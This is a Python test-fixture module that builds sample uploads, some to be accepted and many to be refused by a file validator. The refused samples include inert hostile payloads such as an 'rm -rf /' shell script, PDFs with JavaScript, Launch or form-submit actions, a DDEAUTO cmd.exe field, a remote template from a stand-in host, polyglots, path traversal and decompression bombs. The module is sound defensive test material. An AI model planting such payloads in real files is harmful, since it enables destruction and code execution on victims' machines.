"""Small real files of every kind: those that an upload accepts, and those that it must refuse, with the reason."""

import io
import zipfile
import zlib
from typing import Any

import pikepdf
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def _picture(kind: str) -> bytes:
    file = io.BytesIO()
    Image.effect_noise((60, 40), 90).save(file, kind)
    return file.getvalue()


def _pdf(prepare=lambda writer: None) -> bytes:
    writer, file = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    prepare(writer)
    writer.write(file)
    return file.getvalue()


def _archive(parts: dict[str, str], claimed_size: int | None = None) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        if claimed_size is not None:
            archive.filelist[-1].file_size = claimed_size
    return file.getvalue()


OBJECTS = b"/Type /ObjStm /N 1 /First 4 /Filter"


def _object_stream_pdf(objects: bytes, dictionary: bytes = OBJECTS + b" /FlateDecode") -> bytes:
    """A PDF whose objects lie compressed in an object stream, as office programs write them."""
    data = zlib.compress(b"2 0 " + objects)
    return (
        b"%PDF-1.7\n1 0 obj\n<< " + dictionary + b" /Length " + str(len(data)).encode() + b" >>\nstream\n"
        + data + b"\nendstream\nendobj\ntrailer << /Root 2 0 R >>\n%%EOF\n"
    )  # fmt: skip


def _with_stream(data: bytes, **entries: Any) -> bytes:
    """A PDF of one page with one stream of these packed bytes."""
    pdf, file = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    stream = pikepdf.Stream(pdf, b"")
    for key, value in entries.items():
        stream[f"/{key}"] = value
    filters = stream.get("/Filter")
    stream.write(data, filter=filters) if filters is not None else stream.write(data)
    pdf.Root["/Kept"] = pdf.make_indirect(stream)
    pdf.save(file, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return file.getvalue()


def _packed_objects() -> bytes:
    """A PDF as office programs write it, whose objects lie in an object stream."""
    pdf, file = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    pdf.save(file, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return file.getvalue()


def _moving_picture() -> bytes:
    file = io.BytesIO()
    frames = [Image.new("L", (8, 8), grey) for grey in (0, 255)]
    frames[0].save(file, "PNG", save_all=True, append_images=frames[1:])
    return file.getvalue()


def _large_picture(width: int, height: int) -> bytes:
    """A PNG whose head says this size; its data would be far too short."""

    def part(name: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(bytes(100))) + part(b"IEND", b"")


def _form(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})


OFFICE_TYPES = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
MACRO_TYPES = "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
ELSEWHERE = (
    "<Relationships><Relationship Id='a' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    "attachedTemplate' Target='https://a.example/t.dotm' TargetMode='External'/></Relationships>"
)
DOCX = {"[Content_Types].xml": OFFICE_TYPES, "word/document.xml": "<w:document/>"}
XLSX = {"[Content_Types].xml": OFFICE_TYPES, "xl/workbook.xml": "<workbook/>"}
PDF, JPEG, PNG = _pdf(), _picture("JPEG"), _picture("PNG")
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"

GOOD = {
    "a.pdf": (PDF, "pdf"),
    "ảnh.JPG": (JPEG, "jpeg"),
    "scan.png": (PNG, "png"),
    "đơn.docx": (_archive(DOCX), "docx"),
    "bảng.xlsx": (_archive(XLSX), "xlsx"),
    "objects.pdf": (_packed_objects(), "pdf"),
    "picture.pdf": (
        _with_stream(b"x", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=4960, Height=7016),
        "pdf",
    ),
    "telephone.jpg": (JPEG + b"\x00\x00\x00\x18ftypmp42" + bytes(2000), "jpeg"),
    "padded.png": (PNG + b"\x00\r\n", "png"),
}
BAD = {
    "nothing": (b"", "a.pdf", "empty"),
    "page": (HTML, "a.html", "unknown_kind"),
    "page called pdf": (HTML, "a.pdf", "unknown_kind"),
    "drawing": (SVG, "a.svg", "unknown_kind"),
    "windows program": (b"MZ" + bytes(600), "a.exe", "unknown_kind"),
    "linux program called picture": (b"\x7fELF" + bytes(600), "a.png", "unknown_kind"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "a.pdf", "unknown_kind"),
    "plain text": ("họ tên".encode(), "a.txt", "unknown_kind"),
    "archive": (_archive({"a.txt": "x"}), "a.zip", "unknown_kind"),
    "broken archive": (b"PK\x03\x04" + bytes(100), "a.docx", "unknown_kind"),
    "pdf further down": (b"\n\n" + PDF, "a.pdf", "unknown_kind"),
    "program ending": (PDF, "giay.pdf.exe", "name_mismatch"),
    "picture called pdf": (PNG, "a.pdf", "name_mismatch"),
    "pdf with script": (_pdf(lambda w: w.add_open_action(JavaScript("app.alert(1)"))), "a.pdf", "pdf_active"),
    "pdf with hidden script name": (PDF + b"9 0 obj << /S /J#61vaScript >> endobj", "a.pdf", "pdf_active"),
    "pdf that starts a program": (PDF + b"9 0 obj << /S /Launch /F (cmd.exe) >> endobj", "a.pdf", "pdf_active"),
    "pdf with rendition script": (PDF + b"9 0 obj << /S /Rendition /JS 8 0 R >> endobj", "a.pdf", "pdf_active"),
    "pdf script in object stream": (_object_stream_pdf(b"<< /S /JavaScript /JS (1) >>"), "a.pdf", "pdf_active"),
    "pdf short script in object stream": (_object_stream_pdf(b"<< /JS 8 0 R >>"), "a.pdf", "pdf_active"),
    "pdf script behind a false stream": (
        PDF + b"% stream\n9 0 obj << /S /JavaScript >> endobj\n% endstream", "a.pdf", "pdf_active"
    ),
    "pdf object stream behind a false stream": (
        b"%PDF-1.7\n% stream\n" + _object_stream_pdf(b"<< /S /Launch >>")[9:], "a.pdf", "pdf_active"
    ),
    "pdf with a filter nobody looks into": (
        _object_stream_pdf(b"<<>>", OBJECTS + b" [/ASCIIHexDecode /FlateDecode]"), "a.pdf", "pdf_opaque"
    ),
    "pdf with an indirect filter": (
        _object_stream_pdf(b"<<>>", OBJECTS + b" 5 0 R"), "a.pdf", "pdf_opaque"
    ),
    "pdf with a predictor": (
        _object_stream_pdf(b"<<>>", b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
        "a.pdf", "pdf_opaque",
    ),
    "pdf that swells": (_object_stream_pdf(bytes(65 * 2**20)), "a.pdf", "pdf_opaque"),
    "pdf with a page that swells": (
        _with_stream(zlib.compress(bytes(65 * 2**20)), Filter=pikepdf.Name.FlateDecode), "a.pdf", "pdf_opaque"
    ),
    "pdf packed twice": (
        _with_stream(
            zlib.compress(zlib.compress(b"x")), Filter=pikepdf.Array([pikepdf.Name.FlateDecode] * 2)
        ), "a.pdf", "pdf_opaque"
    ),
    "pdf with another file in it": (_pdf(lambda w: w.add_attachment("a.exe", b"MZ")), "a.pdf", "pdf_attachment"),
    "pdf with a form of its own language": (_pdf(_form), "a.pdf", "pdf_active"),
    "pdf that sends what is typed": (
        _with_stream(b"", S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://a.example")), "a.pdf", "pdf_active"
    ),
    "pdf with too many pages": (_pdf(lambda w: [w.add_blank_page() for _ in range(500)]), "a.pdf", "pdf_pages"),
    "pdf with a picture too large": (
        _with_stream(b"x", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=20_000, Height=20_000),
        "a.pdf", "pixels",
    ),
    "pdf without a page": (PDF[:9] + b"1 0 obj<</Type/Catalog>>endobj trailer<</Root 1 0 R>>", "a.pdf", "pdf_broken"),
    "pdf of noise": (b"%PDF-1.7\n" + bytes(range(256)) * 8, "a.pdf", "pdf_broken"),
    "pdf with password": (_pdf(lambda w: w.encrypt("mat khau", algorithm="RC4-128")), "a.pdf", "pdf_encrypted"),
    "pdf that is an archive": (PDF + _archive({"a.js": "x"}), "a.pdf", "two_in_one"),
    "pdf that is a page": (b"%PDF-1.7\n" + HTML + PDF, "a.pdf", "two_in_one"),
    "picture that is a page": (
        JPEG[:2] + b"\xff\xfe\x00\x20<script>alert(1)</script>....." + JPEG[2:], "a.jpg", "two_in_one"
    ),
    "picture that is an archive": (JPEG + _archive({"a.js": "x"}), "a.jpg", "two_in_one"),
    "picture that is a pdf": (JPEG[:2] + b"\xff\xfe\x00\x10%PDF-1.7......" + JPEG[2:], "a.jpg", "two_in_one"),
    "png with a tail": (PNG + b"#!/bin/sh", "a.png", "two_in_one"),
    "half a png": (PNG[: len(PNG) // 2], "a.png", "image_broken"),
    "png with a wrong byte": (PNG[:60] + bytes([PNG[60] ^ 1]) + PNG[61:], "a.png", "image_broken"),
    "picture too large": (_large_picture(20_000, 20_000), "a.png", "pixels"),
    "picture that says more than it holds": (_large_picture(5_000, 5_000), "a.png", "image_broken"),
    "picture that moves": (_moving_picture(), "a.png", "image_moving"),
    "half a jpeg": (JPEG[: len(JPEG) // 2], "a.jpg", "image_broken"),
    "macro": (_archive(DOCX | {"word/vbaProject.bin": "x"}), "a.docx", "office_active"),
    "macro by type": (_archive(DOCX | {"[Content_Types].xml": MACRO_TYPES}), "a.docx", "office_active"),
    "embedded program": (_archive(DOCX | {"word/embeddings/oleObject1.bin": "x"}), "a.docx", "office_active"),
    "template from elsewhere": (
        _archive(DOCX | {"word/_rels/settings.xml.rels": ELSEWHERE}), "a.docx", "office_active"
    ),
    "exchange with programs": (
        _archive(DOCX | {"word/document.xml": "<w:instrText xml:space='x'> DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
        "a.docx", "office_active",
    ),
    "entities that multiply": (
        _archive(XLSX | {"xl/workbook.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><workbook/>"}), "a.xlsx", "office_active"
    ),
    "part that is not what it claims": (_archive(DOCX, claimed_size=3), "a.docx", "office_broken"),
    "climbing names": (_archive(XLSX | {"../../x": "x"}), "a.xlsx", "office_broken"),
    "swelling document": (_archive(DOCX, claimed_size=201 * 2**20), "a.docx", "office_broken"),
    "document of thousands": (_archive(DOCX | dict.fromkeys(map(str, range(5_000)), "")), "a.docx", "office_broken"),
}  # fmt: skip
